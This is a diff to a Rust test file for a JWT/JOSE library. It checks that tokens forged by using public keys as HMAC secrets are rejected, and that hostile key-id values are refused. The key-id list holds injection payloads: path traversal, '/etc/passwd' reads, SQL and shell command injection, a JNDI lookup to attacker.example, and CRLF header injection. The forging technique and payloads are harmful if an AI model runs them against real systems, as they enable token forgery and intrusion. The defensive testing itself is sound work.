@@ -7,7 +7,7 @@ use assent_jose::{
 use aws_lc_rs::encoding::AsDer;
 use aws_lc_rs::signature::RsaPublicKeyComponents;
 use base64::Engine;
-use serde_json::json;
+use serde_json::{Map, Value, json};
 
 use crate::support::{EDDSA, ES256, RS256, public_key, token_by};
 
@@ -18,39 +18,129 @@ fn everything() -> Vec<Algorithm> {
 /// Every way a library was seen to take a public key for a secret.
 fn renderings(key: &PublicKey) -> Vec<Vec<u8>> {
     let jwk = key.to_jwk();
-    let number = |name: &str| assent_jose::base64url_decode(jwk[name].as_str().unwrap()).unwrap();
-    let components = RsaPublicKeyComponents { n: number("n"), e: number("e") };
-    let der = AsDer::<aws_lc_rs::encoding::PublicKeyX509Der<'_>>::as_der(&components).unwrap();
-    let body = base64::engine::general_purpose::STANDARD.encode(der.as_ref());
-    let lines: Vec<&str> =
-        body.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
-    let pem =
-        format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", lines.join("\n"));
-    vec![
-        pem.clone().into_bytes(),
-        format!(" {pem}").into_bytes(),
-        pem.trim_end().as_bytes().to_vec(),
-        der.as_ref().to_vec(),
+    let jwks = Jwks::from_keys(vec![key.clone()]);
+    let octets = |name: &str| {
+        let text = jwk.get(name)?.as_str()?;
+        assent_jose::base64url_decode(text).ok()
+    };
+    let mut all = vec![
         serde_json::to_vec(&jwk).unwrap(),
-        jwk["n"].as_str().unwrap().as_bytes().to_vec(),
-        components.n,
-    ]
+        serde_json::to_vec_pretty(&jwk).unwrap(),
+        jwks.text().as_bytes().to_vec(),
+        key.thumbprint().into_bytes(),
+    ];
+    for name in ["n", "x", "y"] {
+        all.extend(octets(name));
+        all.extend(jwk.get(name).map(|it| it.as_str().unwrap().as_bytes().to_vec()));
+    }
+    for (der, label) in ders(&jwk) {
+        let body = base64::engine::general_purpose::STANDARD.encode(&der);
+        let lines: Vec<&str> =
+            body.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
+        let lines = lines.join("\n");
+        let pem = format!("-----BEGIN {label}-----\n{lines}\n-----END {label}-----\n");
+        for text in [
+            pem.clone(),
+            format!(" {pem}"),
+            format!("\n{pem}"),
+            format!("\u{feff}{pem}"),
+            format!("{pem}\n"),
+            format!("{pem}\0"),
+            pem.trim_end().to_owned(),
+            pem.replace('\n', "\r\n"),
+            pem.replace('\n', ""),
+            pem.to_lowercase(),
+            lines.clone(),
+            body,
+        ] {
+            all.push(text.into_bytes());
+        }
+        all.push(der);
+    }
+    all
 }
 
+/// The key in DER: with its kind (RFC 5280 §4.1.2.7) and, of RSA, without (RFC 8017 §A.1.1).
+fn ders(jwk: &Map<String, Value>) -> Vec<(Vec<u8>, &'static str)> {
+    let octets = |name: &str| assent_jose::base64url_decode(jwk[name].as_str().unwrap()).unwrap();
+    if jwk["kty"] == "RSA" {
+        let components = RsaPublicKeyComponents { n: octets("n"), e: octets("e") };
+        let der = AsDer::<aws_lc_rs::encoding::PublicKeyX509Der<'_>>::as_der(&components).unwrap();
+        let whole = der.as_ref().to_vec();
+        // The number of unused bits, then the bare key, stands at the end.
+        let bare = whole[24..].to_vec();
+        return vec![(whole, "PUBLIC KEY"), (bare, "RSA PUBLIC KEY")];
+    }
+    let (kind, point): (&[u8], Vec<u8>) = match jwk["crv"].as_str().unwrap() {
+        "P-256" => (
+            &[
+                0x30, 0x59, 0x30, 0x13, 6, 7, 0x2a, 0x86, 0x48, 0xce, 0x3d, 2, 1, 6, 8, 0x2a, 0x86,
+                0x48, 0xce, 0x3d, 3, 1, 7, 3, 0x42, 0, 4,
+            ],
+            [octets("x"), octets("y")].concat(),
+        ),
+        "P-384" => (
+            &[
+                0x30, 0x76, 0x30, 0x10, 6, 7, 0x2a, 0x86, 0x48, 0xce, 0x3d, 2, 1, 6, 5, 0x2b, 0x81,
+                4, 0, 0x22, 3, 0x62, 0, 4,
+            ],
+            [octets("x"), octets("y")].concat(),
+        ),
+        "P-521" => (
+            &[
+                0x30, 0x81, 0x9b, 0x30, 0x10, 6, 7, 0x2a, 0x86, 0x48, 0xce, 0x3d, 2, 1, 6, 5, 0x2b,
+                0x81, 4, 0, 0x23, 3, 0x81, 0x86, 0, 4,
+            ],
+            [octets("x"), octets("y")].concat(),
+        ),
+        _ => (&[0x30, 0x2a, 0x30, 5, 6, 3, 0x2b, 0x65, 0x70, 3, 0x21, 0], octets("x")),
+    };
+    vec![([kind, &point].concat(), "PUBLIC KEY")]
+}
+
+/// T-44: every algorithm × every rendering of its public key × every HMAC × every list of what is
+/// allowed.
 #[test]
 fn a_public_key_never_serves_as_a_secret() {
-    let keys = Jwks::from_keys(vec![RS256.public_key().clone()]);
-    for secret in renderings(RS256.public_key()) {
-        for algorithm in Algorithm::HMAC {
-            let forged =
-                sign_jwt_hmac(&HmacKey::new(&secret), algorithm, "JWT", &json!({})).unwrap();
-            let jws = CompactJws::parse(&forged).unwrap();
-            for allowed in [&[Algorithm::RS256][..], &everything()] {
-                let answer = jws.verify_with(&keys, allowed);
-                assert_eq!(answer, Err(Error::AlgorithmNotAllowed));
+    use Algorithm::{ES384, ES512, PS256, PS384, PS512, RS384, RS512};
+    let generated = [ES384, ES512].map(|it| SigningKey::generate(it).unwrap());
+    let mut publics = [&*RS256, &*ES256, &*EDDSA, &generated[0], &generated[1]]
+        .map(|key| key.public_key().clone())
+        .to_vec();
+    for algorithm in [RS384, RS512, PS256, PS384, PS512] {
+        let mut jwk = RS256.public_key().to_jwk();
+        jwk.insert(String::from("alg"), json!(algorithm.name()));
+        publics.push(PublicKey::from_jwk(&jwk).unwrap());
+    }
+    let mut refused = 0;
+    for key in publics {
+        let keys = Jwks::from_keys(vec![key.clone()]);
+        let own = key.algorithm().unwrap();
+        for secret in renderings(&key) {
+            for algorithm in Algorithm::HMAC {
+                let secret = HmacKey::new(&secret);
+                // Shorter ones are no secrets at all.
+                if !secret.fits(algorithm) {
+                    continue;
+                }
+                let forged = sign_jwt_hmac(&secret, algorithm, "JWT", &json!({})).unwrap();
+                let jws = CompactJws::parse(&forged).unwrap();
+                for allowed in [&[own][..], &[own, algorithm], &everything(), &[]] {
+                    let answer = jws.verify_with(&keys, allowed);
+                    assert_eq!(answer, Err(Error::AlgorithmNotAllowed), "{own:?} {algorithm:?}");
+                    refused += 1;
+                }
+                // And a name that lies about the key changes nothing.
+                let header = format!(r#"{{"alg":"{}"}}"#, own.name());
+                let input = format!("{}.e30", base64url_encode(header.as_bytes()));
+                let code = secret.sign(algorithm, input.as_bytes()).unwrap();
+                let renamed = format!("{input}.{}", base64url_encode(&code));
+                let answer = CompactJws::parse(&renamed).unwrap().verify_with(&keys, &[own]);
+                assert_eq!(answer, Err(Error::SignatureInvalid), "{own:?} {algorithm:?}");
             }
         }
     }
+    assert!(refused > 2000, "{refused}");
 }
 
 #[test]
@@ -104,14 +194,51 @@ fn a_token_with_kid_is_verified_by_that_key_only() {
     let keys = Jwks::from_keys(vec![other.public_key().clone(), ES256.public_key().clone()]);
     let verify = |header: &str| {
         let token = token_by(&ES256, header, "{}");
-        CompactJws::parse(&token).unwrap().verify_with(&keys, &[Algorithm::ES256]).map(drop)
+        CompactJws::parse(&token)?.verify_with(&keys, &[Algorithm::ES256]).map(drop)
     };
     let named = |key_id: &str| format!(r#"{{"alg":"ES256","kid":{}}}"#, json!(key_id));
     assert_eq!(verify(r#"{"alg":"ES256"}"#), Ok(()));
     assert_eq!(verify(&named(ES256.key_id())), Ok(()));
     assert_eq!(verify(&named(other.key_id())), Err(Error::SignatureInvalid));
-    for key_id in ["", "../../dev/null", "' OR 1=1 --", "http://localhost/", "*"] {
+    // T-48: nothing of it is a path, a query, an address, a pattern or a command to anybody.
+    for key_id in [
+        "",
+        " ",
+        "*",
+        "%",
+        "..",
+        "../../../../../../dev/null",
+        "/dev/tcp/localhost/80",
+        "/proc/sys/kernel/randomize_va_space",
+        "file:///etc/passwd",
+        "http://localhost/",
+        "https://attacker.example/jwks.json",
+        "' OR 1=1 --",
+        "x' UNION SELECT 'key';--",
+        "key; sleep 5",
+        "$(id)",
+        "`id`",
+        "| id",
+        "${jndi:ldap://attacker.example/a}",
+        "{{7*7}}",
+        "__proto__",
+        "constructor",
+        "null",
+        "0",
+        "%00",
+        "%2e%2e%2f",
+        "\\\\attacker\\share",
+        "\u{202e}",
+    ] {
         assert_eq!(verify(&named(key_id)), Err(Error::KeyUnknown), "{key_id}");
+    }
+    let close = [ES256.key_id().to_lowercase(), ES256.key_id().to_uppercase()];
+    let spaced = [format!(" {}", ES256.key_id()), format!("{} ", ES256.key_id())];
+    for key_id in close.iter().chain(&spaced) {
+        assert_eq!(verify(&named(key_id)), Err(Error::KeyUnknown), "{key_id}");
+    }
+    for key_id in ["a\u{0}b", "\n", "\r\nset-cookie: a=b", "\u{1b}[2J", &"k".repeat(10_240)] {
+        assert_eq!(verify(&named(key_id)), Err(Error::KeyIdInvalid), "{key_id:?}");
     }
 }
 
